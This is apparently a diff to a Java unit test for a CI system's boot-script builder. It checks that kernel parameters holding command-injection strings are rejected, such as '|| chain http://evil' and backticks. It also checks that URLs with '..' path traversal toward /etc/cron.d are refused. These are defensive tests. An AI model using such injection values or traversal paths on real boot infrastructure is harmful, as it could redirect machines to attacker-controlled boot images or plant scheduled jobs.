@@ -7,6 +7,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import org.compassci.sched.model.Json;
+import java.util.List;
 import org.junit.jupiter.api.Test;
 
 class BootScriptsTest {
@@ -71,6 +72,22 @@ class BootScriptsTest {
     assertTrue(s.lines().noneMatch(l -> l.startsWith("chain")), s);
     assertThrows(BootPlan.CannotBoot.class, () -> BootPlan.of(job(",\"kernel_uri\":\"http://h/k\","
         + "\"kernel_custom_params\":\"a='1 2'\""), PKG, AT, BootPlan.Prefixes.DEFAULT));
+    // words iPXE or grub read as commands (a chain after ||, a comment, a grub ';'): no script
+    // that chains elsewhere, or fails on every box, is made of them
+    for (String params : List.of("a=1 || chain http://evil", "a=1 && chain http://evil", "x ; chain http://evil",
+        "#c", "a=${x}", "a=1;b", "a={b}", "a=`b`")) {
+      BootPlan.CannotBoot e = assertThrows(BootPlan.CannotBoot.class, () -> BootPlan.of(job(",\"kernel_uri\":\"http://h/k\","
+          + "\"kernel_custom_params\":\"" + params + "\""), PKG, AT, BootPlan.Prefixes.DEFAULT), params);
+      assertTrue(e.getMessage().contains("as a command"), e.getMessage());
+    }
+    BootPlan.of(job(",\"kernel_uri\":\"http://h/k\",\"kernel_custom_params\":\"a=1&b=2 c#d x=|y\""),
+        PKG, AT, BootPlan.Prefixes.DEFAULT);
+    // a provider host keeps a download under its URL's path as it is
+    for (String url : List.of("http://h/srv/../../etc/cron.d/x", "http://h/..", "https://h/a/..?x=1")) {
+      BootPlan.CannotBoot e = assertThrows(BootPlan.CannotBoot.class, () -> BootPlan.checkUrl("initrds_uri", url), url);
+      assertTrue(e.getMessage().contains("'..'"), e.getMessage());
+    }
+    BootPlan.checkUrl("kernel_uri", "http://h/a..b/c.../v?x=../y");
   }
 
   @Test
